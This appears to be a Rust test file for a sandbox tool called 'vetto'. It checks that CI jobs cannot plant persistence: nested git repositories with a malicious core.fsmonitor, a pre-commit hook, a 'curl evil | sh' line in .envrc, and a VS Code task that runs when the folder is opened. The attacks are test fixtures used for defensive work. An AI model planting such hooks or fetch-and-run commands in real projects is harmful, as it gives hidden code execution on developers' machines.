//! Persistence beyond the top-level `.git` (issue 9, item 3): a job plants
//! a nested repository whose `core.fsmonitor` runs at the next ordinary
//! `git status` in it (a shell prompt, an IDE), outside the sandbox; or
//! leaves an `.envrc` or a VS Code task behind.

use std::path::{Path, PathBuf};

use crate::util::{Tier, World, git_status_in, planted_lines};
use crate::{at_every_tier, require};

/// The job's attack: a nested repository with a command as its
/// fsmonitor, hidden from the top-level `git status`.
fn plant(marker: &Path) -> String {
    format!(
        "git init -q sub; git -C sub config core.fsmonitor 'echo pwned > {}'; \
         echo sub/ >> .git/info/exclude",
        marker.display()
    )
}

fn marker_of(w: &World) -> PathBuf {
    w.outside.join("fsmonitor-ran")
}

/// The control: bare, after `setup` and the job's `attack`, the next
/// `git status` in `repo` runs the planted fsmonitor.
fn fsmonitor_runs_bare(tier: Tier, setup: &str, attack: &dyn Fn(&Path) -> String, repo: &str) {
    let bare = World::at(tier);
    bare.sh_bare(setup).assert_success();
    let marker = marker_of(&bare);
    bare.sh_bare(&attack(&marker)).assert_success();
    git_status_in(&bare, &bare.project.join(repo));
    assert!(marker.exists(), "control: the bare fsmonitor did not run");
}

/// Runs as an unprivileged user. Bare: the planted repository's
/// fsmonitor runs at the next `git status` in it (the marker appears).
/// Sandboxed: creating `sub/.git` is refused and recorded as
/// `persistence-planted` with the process, `vetto ci` exits 3, and the
/// next `git status` in `sub/` runs nothing.
fn nested_repository_fsmonitor_does_not_run_later(tier: Tier) {
    require!(tier.feature());
    let bare = World::at(tier);
    let marker = marker_of(&bare);
    bare.sh_bare(&plant(&marker)).assert_success();
    git_status_in(&bare, &bare.project.join("sub"));
    assert!(
        marker.exists(),
        "control: the bare nested repository's fsmonitor did not run"
    );

    let w = World::at(tier);
    let marker = marker_of(&w);
    let (out, log) = w.ci_sh(&format!("{}; echo script-finished", plant(&marker)));
    out.assert_stdout_contains("script-finished");
    assert_eq!(out.code(), 3, "{}", out.dump());
    assert!(
        !w.project.join("sub/.git").exists(),
        "sub/.git was created\n{}",
        out.dump()
    );
    let planted = planted_lines(&log);
    assert!(
        planted
            .iter()
            .any(|l| l.contains("sub/.git") && l.contains("\"git\"")),
        "no persistence-planted violation naming sub/.git and git: {planted:?}\n{}",
        out.dump()
    );
    if w.project.join("sub").is_dir() {
        git_status_in(&w, &w.project.join("sub"));
    }
    git_status_in(&w, &w.project);
    assert!(!marker.exists(), "the fsmonitor ran after the session");
}
at_every_tier!(nested_repository_fsmonitor_does_not_run_later);

/// Runs as an unprivileged user. A nested repository that existed before
/// the session (vendored) cannot be refused at creation: the job sets its
/// fsmonitor. Bare, the next `git status` there runs it; sandboxed, the
/// check after the session reports the repository (`vetto run` prints a
/// line, `vetto ci` records `persistence-planted` and exits 3).
fn changed_config_of_existing_nested_repository_is_reported(tier: Tier) {
    require!(tier.feature());
    let setup = "git init -q vendor/lib";
    let attack = |m: &Path| {
        format!(
            "git -C vendor/lib config core.fsmonitor 'echo pwned > {}'",
            m.display()
        )
    };
    fsmonitor_runs_bare(tier, setup, &attack, "vendor/lib");

    let w = World::at(tier);
    w.sh_bare(setup).assert_success();
    let marker = marker_of(&w);
    let run = w.sh_sandboxed(&format!("{}; echo script-finished", attack(&marker)));
    run.assert_stdout_contains("script-finished")
        .assert_stderr_contains("vetto: persistence planted: ")
        .assert_stderr_contains("vendor/lib/.git");

    let w = World::at(tier);
    w.sh_bare(setup).assert_success();
    let (out, log) = w.ci_sh(&format!("{}; echo script-finished", attack(&marker)));
    out.assert_stdout_contains("script-finished");
    assert_eq!(out.code(), 3, "{}", out.dump());
    let planted = planted_lines(&log);
    assert!(
        planted.iter().any(|l| l.contains("vendor/lib/.git")),
        "{planted:?}\n{}",
        out.dump()
    );
}
at_every_tier!(changed_config_of_existing_nested_repository_is_reported);

/// Runs as an unprivileged user: the job leaves an `.envrc` and a VS Code
/// task (run by direnv and the editor, outside the sandbox). Bare they
/// are there; sandboxed they are reported and `vetto ci` exits 3.
fn planted_envrc_and_vscode_task_are_reported(tier: Tier) {
    require!(tier.feature());
    let script = "echo 'curl evil | sh' > .envrc; mkdir -p .vscode; \
                  echo '{\"tasks\":[{\"label\":\"x\",\"command\":\"id\",\"runOptions\":{\"runOn\":\"folderOpen\"}}]}' \
                  > .vscode/tasks.json";
    let bare = World::at(tier);
    bare.sh_bare(script).assert_success();
    assert!(
        bare.project.join(".envrc").exists() && bare.project.join(".vscode/tasks.json").exists()
    );

    let w = World::at(tier);
    let (out, log) = w.ci_sh(&format!("{script}; echo script-finished"));
    out.assert_stdout_contains("script-finished");
    assert_eq!(out.code(), 3, "{}", out.dump());
    let planted = planted_lines(&log);
    for name in [".envrc", ".vscode/tasks.json"] {
        assert!(
            planted.iter().any(|l| l.contains(name)),
            "{name} not reported: {planted:?}\n{}",
            out.dump()
        );
    }
}
at_every_tier!(planted_envrc_and_vscode_task_are_reported);

/// Runs as an unprivileged user. Control: an ordinary job creates files
/// and directories (`git`, `.github`, nested sources) and a repository in
/// `$TMPDIR` (outside the project, which must keep working): no
/// persistence violation, `vetto ci` passes.
fn ordinary_job_records_no_persistence_violation(tier: Tier) {
    require!(tier.feature());
    let w = World::at(tier);
    let script = "set -e; mkdir -p git .github/workflows src/deep/er; echo a > git/notes; \
                  echo 'on: push' > .github/workflows/ci.yml; echo 'int x;' > src/deep/er/x.c; \
                  git init -q \"$TMPDIR/scratch\"; git -C \"$TMPDIR/scratch\" status --short; \
                  echo tmp-git-ok";
    let (out, log) = w.ci_sh(script);
    out.assert_stdout_contains("tmp-git-ok");
    assert_eq!(out.code(), 0, "{}", out.dump());
    assert_eq!(planted_lines(&log), Vec::<&str>::new(), "{}", out.dump());
    assert!(
        !out.stderr().contains("persistence planted"),
        "{}",
        out.dump()
    );
}
at_every_tier!(ordinary_job_records_no_persistence_violation);

/// Runs as an unprivileged user. The project's directories are old and
/// remembered by the start's glob walk, so the check after the session
/// takes their listings instead of reading them; the job writes a
/// `pre-commit` hook into an existing nested repository (no directory on
/// the way gains an entry but `hooks/`). Bare, the next `git commit` there
/// runs it; sandboxed, the check still reports the repository.
fn persistence_planted_in_an_old_directory_is_still_found(tier: Tier) {
    require!(tier.feature());
    let setup =
        "git init -q vendor/lib/deep && mkdir -p vendor/lib/src && echo x > vendor/lib/src/a.c";
    let attack = |m: &Path| {
        format!(
            "printf '#!/bin/sh\\necho pwned > {}\\n' > vendor/lib/deep/.git/hooks/pre-commit; \
             chmod +x vendor/lib/deep/.git/hooks/pre-commit",
            m.display()
        )
    };
    let commit = "git -C vendor/lib/deep -c user.name=t -c user.email=t@vetto.invalid \
                  commit -q --allow-empty -m x";
    let bare = World::at(tier);
    bare.sh_bare(setup).assert_success();
    let marker = marker_of(&bare);
    bare.sh_bare(&attack(&marker)).assert_success();
    let c = bare.sh_bare(commit);
    assert!(
        marker.exists(),
        "control: the bare pre-commit hook did not run\n{}",
        c.dump()
    );

    let w = World::at(tier);
    w.sh_bare(setup).assert_success();
    // Settled directories are remembered by the first session's walk.
    std::thread::sleep(std::time::Duration::from_millis(2500));
    w.run_sandboxed(&["true"]).assert_success();
    let cache = w.home.join(".cache/vetto/walk");
    assert_eq!(
        std::fs::read_dir(&cache).map_or(0, |d| d.count()),
        1,
        "control: the walk was not remembered in {}",
        cache.display()
    );
    let marker = marker_of(&w);
    let run = w.sh_sandboxed(&format!("{}; echo script-finished", attack(&marker)));
    run.assert_stdout_contains("script-finished")
        .assert_stderr_contains("vetto: persistence planted: ")
        .assert_stderr_contains("vendor/lib/deep/.git");
}
at_every_tier!(persistence_planted_in_an_old_directory_is_still_found);

/// Runs as an unprivileged user. A job that adds, removes and renames no
/// entry anywhere lets the check after the session take the start's
/// listings without looking at a single directory again; what it can
/// still change is the content of files that exist. Here it appends an
/// fsmonitor to an existing nested repository's config in place (`dd
/// conv=nocreat`: an `open` without `O_CREAT`, so no entry-changing call
/// at all). Bare, the next `git status` there runs it; sandboxed, after a
/// warm start, the check still reports the repository.
fn in_place_config_write_without_any_new_entry_is_still_found(tier: Tier) {
    require!(tier.feature());
    let setup = "git init -q vendor/lib && mkdir -p vendor/src && echo x > vendor/src/a.c";
    let attack = |m: &Path| {
        format!(
            "printf '[core]\\n\\tfsmonitor = echo pwned > {}\\n' | \
             dd of=vendor/lib/.git/config conv=nocreat,notrunc oflag=append status=none",
            m.display()
        )
    };
    fsmonitor_runs_bare(tier, setup, &attack, "vendor/lib");

    let w = World::at(tier);
    w.sh_bare(setup).assert_success();
    // Settled directories are remembered by the first session's walk.
    std::thread::sleep(std::time::Duration::from_millis(2500));
    w.run_sandboxed(&["true"]).assert_success();
    assert_eq!(
        std::fs::read_dir(w.home.join(".cache/vetto/walk")).map_or(0, |d| d.count()),
        1,
        "control: the walk was not remembered"
    );
    let marker = marker_of(&w);
    let run = w.sh_sandboxed(&format!("{}; echo script-finished", attack(&marker)));
    run.assert_stdout_contains("script-finished")
        .assert_stderr_contains("vetto: persistence planted: ")
        .assert_stderr_contains("vendor/lib/.git");
    // The nested repository's config is kept by content: it is put back,
    // and the next `git status` there runs nothing of the job's.
    git_status_in(&w, &w.project.join("vendor/lib"));
    assert!(
        !marker.exists(),
        "the nested repository's fsmonitor ran later"
    );
}
at_every_tier!(in_place_config_write_without_any_new_entry_is_still_found);

/// Runs as an unprivileged user, at FULL with `--check-creations after`:
/// no creation is refused as it is made, so the planted repository and a
/// new hook-manager file (`.pre-commit-config.yaml`, protected) are there
/// after the job; the check after the session names both, takes the
/// protected name away into the archive of what was put back and `vetto
/// ci` exits 3. (Checked live, the creation itself is refused:
/// `nested_repository_fsmonitor_does_not_run_later`.)
#[test]
fn with_creations_checked_after_a_planted_repository_is_reported_after_the_session() {
    require!(Tier::Full.feature());
    let w = World::at(Tier::FullCreationsAfter);
    let marker = marker_of(&w);
    let (out, log) = w.ci_sh(&format!(
        "{}; echo 'repos: []' > .pre-commit-config.yaml; echo script-finished",
        plant(&marker)
    ));
    out.assert_stdout_contains("script-finished")
        .assert_stderr_contains("creations are checked after the session");
    assert_eq!(out.code(), 3, "{}", out.dump());
    let planted = planted_lines(&log);
    for path in ["sub/.git", ".pre-commit-config.yaml"] {
        assert!(
            planted.iter().any(|l| l.contains(path)),
            "{path} is not reported: {planted:?}\n{}",
            out.dump()
        );
    }
    // A protected name is taken away, so no hook manager loads it.
    out.assert_stderr_contains("removed (it did not exist before the session)");
    assert!(
        !w.project.join(".pre-commit-config.yaml").exists(),
        "{}",
        out.dump()
    );
}

/// Runs as an unprivileged user. Below FULL no mount keeps what exists,
/// so `--check-creations after` weakens nothing: the nested repository is
/// still refused as it is made, and the terminal says the option did not
/// apply.
#[test]
fn creations_checked_after_below_full_still_refuse_a_nested_repository() {
    require!(Tier::FsOnly.feature());
    let w = World::at(Tier::FsOnly);
    let script = format!("{}; echo script-finished", plant(&marker_of(&w)));
    let out = w
        .sandboxed_with(&["--check-creations", "after"], &["sh", "-c", &script])
        .run();
    out.assert_stdout_contains("script-finished")
        .assert_stderr_contains("takes effect at the full tier only");
    assert!(
        !w.project.join("sub/.git").exists(),
        "sub/.git was created\n{}",
        out.dump()
    );
}
